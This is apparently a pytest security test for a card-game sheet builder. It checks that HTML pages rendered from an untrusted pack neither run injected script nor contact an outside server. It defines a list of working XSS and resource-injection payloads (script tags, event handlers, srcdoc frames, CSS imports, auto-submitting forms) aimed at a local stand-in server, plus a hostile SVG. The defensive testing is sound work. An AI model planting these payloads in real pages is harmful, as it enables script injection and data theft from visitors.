"""What a stranger's pack says does nothing in a browser: no script of it runs, and nothing is asked for elsewhere.

`PAYLOADS` do both where nothing holds them, and a test says so of each. They stand in all that a pack says, and once
more in the made pages themselves, as if Arsenal had escaped nothing: then the pages' security policy holds them.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest

from builder.authoring.new import new_game
from builder.web.watch import Watched, served
from renderers.layout.options import SheetOptions
from renderers.outputs.sheets import print_sheets
from tests.support.attacks import cards, game, spell
from tests.support.chromium import Chromium, Tab, needs_chromium
from tests.support.commands import Arsenal
from tests.support.renders import card, future_invaders

pytestmark = [pytest.mark.long, needs_chromium]

# What each asks for says which it is: "http://{there}/" and its name.
RUN = "fetch('http://{there}/NAME');owned=1"
PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "its-file": "<script src=http://{there}/NAME></script>",
    "handler": f'<img src="data:," onerror="{RUN}">',
    "picture": "<img src=http://{there}/NAME>",
    "drawing": f'<svg onload="{RUN}"></svg>',
    "in-a-drawing": "<svg><image href=http://{there}/NAME></image></svg>",
    "style": "<style>@import 'http://{there}/NAME'</style>",
    "ground": '<p style="background: url(http://{there}/NAME)">x</p>',
    "sheet": "<link rel=stylesheet href=http://{there}/NAME>",
    "frame": "<iframe src=http://{there}/NAME></iframe>",
    "in-a-frame": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "object": "<object data=http://{there}/NAME></object>",
    "sound": "<audio autoplay src=http://{there}/NAME></audio>",
    "form": "<iframe name=in></iframe><form id=f target=in action=http://{there}/NAME></form>"
    "<script>f.submit()</script>",
    "address": f'<a id=a href="javascript:{RUN}">x</a><script>a.click()</script>',
}


def every(there: There) -> list[str]:
    return [text.replace("{there}", there.name).replace("NAME", name) for name, text in PAYLOADS.items()]


@pytest.fixture
def browser() -> Iterator[Chromium]:
    with Chromium() as started:
        yield started


class There(ThreadingHTTPServer):
    """A server elsewhere, which must not hear of us."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Answer)
        self.heard: set[str] = set()
        self.name = f"127.0.0.1:{self.server_address[1]}"


class _Answer(BaseHTTPRequestHandler):
    server: There

    def do_GET(self) -> None:
        self.server.heard.add(self.path.strip("/?"))
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    def log_message(self, *_: object) -> None:
        pass


@contextmanager
def listening() -> Iterator[There]:
    with There() as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


@pytest.fixture
def there() -> Iterator[There]:
    with listening() as server:
        yield server


@pytest.fixture
def pack(tmp_path: Path, there: There) -> Path:
    """A pack that says such things wherever it may say something, also in its pictures."""
    new_game("Moon Duel", tmp_path)
    root = tmp_path / "moon-duel"
    texts = every(there)
    (root / "art").mkdir()
    (root / "art/a.svg").write_text(
        f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="fetch(\'http://{there.name}/art\')">'
        f'{texts[0]}<rect width="9" height="9" fill="red"/></svg>',
        "utf-8",
    )
    game(root, name="<script>owned=1</script>", description=" ".join(texts), credit=" ".join(texts))
    named = f"<img src=http://{there.name}/{{}}>"  # what fits a card
    said = (spell(n, name=named.format(n), text=text, flavor=text, art="art/a.svg") for n, text in enumerate(texts))
    cards(root, "".join(said))
    return root


def is_quiet(tab: Tab, there: There, *own: str) -> None:
    """Nothing of a stranger's ran here, and nothing was asked for but what is our own."""
    time.sleep(0.5)  # for what would be asked late
    assert tab.value("typeof window.owned") == "undefined"
    asked = [address for address in tab.asked_for() if not address.startswith((*own, "data:", "about:"))]
    assert (asked, there.heard) == ([], set())


def test_what_is_tried_does_harm_where_nothing_holds_it(browser: Chromium, there: There, tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    page.write_text("<!doctype html><meta charset=utf-8>" + "\n".join(every(there)), "utf-8")
    tab = browser.open(page.as_uri(), network=True)
    tab.until(lambda: there.heard >= PAYLOADS.keys())
    assert tab.value("owned") == 1
    tab.close()


def test_sheets_do_nothing(browser: Chromium, there: There, arsenal: Arsenal, pack: Path) -> None:
    arsenal("print", "moon-duel", "--packs", "moon-duel", "-o", "sheets.html")
    page = Path("sheets.html").absolute()
    tab = browser.open(page.as_uri(), network=True)
    is_quiet(tab, there, page.as_uri())
    assert tab.value("document.querySelectorAll('section svg').length") > 0
    assert tab.value("document.title") == "<script>owned=1</script>"  # it is a text
    assert tab.value("[...document.querySelectorAll('script, iframe, object, img, link, a')].length") == 0
    tab.close()


def test_sheets_hold_what_would_not_be_escaped(browser: Chromium, there: There, tmp_path: Path) -> None:
    made = print_sheets(future_invaders(), [(card(), 1)], SheetOptions(output="html")).data.decode()
    page = tmp_path / "page.html"
    page.write_text(made.replace("<section", "\n".join(every(there)) + "<section", 1), "utf-8")
    tab = browser.open(page.as_uri(), network=True)
    assert tab.value("document.querySelectorAll('form').length") == 1  # all of it is there
    is_quiet(tab, there, page.as_uri())
    assert len(tab.refusals()) >= len(PAYLOADS) - 2
    tab.close()


def test_the_page_of_watch_does_nothing(browser: Chromium, there: There, pack: Path) -> None:
    picture, handler = every(there)[3], every(there)[2]
    (pack / "rulings.yaml").write_text(json.dumps([{picture: handler}]), "utf-8")  # findings quote it
    with served(Watched(pack), 0) as (_, url):
        tab = browser.open(url, network=True)
        tab.until(lambda: tab.value("document.querySelectorAll('figure img').length") >= 3)
        assert "<img src=" in tab.value("document.getElementById('list').innerText")
        assert "<img src=" in tab.value("document.getElementById('grid').innerText")
        is_quiet(tab, there, url)
        assert tab.refusals() == []  # nor does the page itself ask for what it may not
        tab.close()


def test_a_picture_of_watch_opened_alone_does_nothing(browser: Chromium, there: There, pack: Path) -> None:
    with served(Watched(pack), 0) as (_, url):
        tab = browser.open(f"{url}watch/pictures/c-0", network=True)
        assert tab.value("document.documentElement.localName") == "svg"
        is_quiet(tab, there, url)
        assert tab.value("self.origin") == "null"  # a sandbox, which is not our page's
        tab.close()
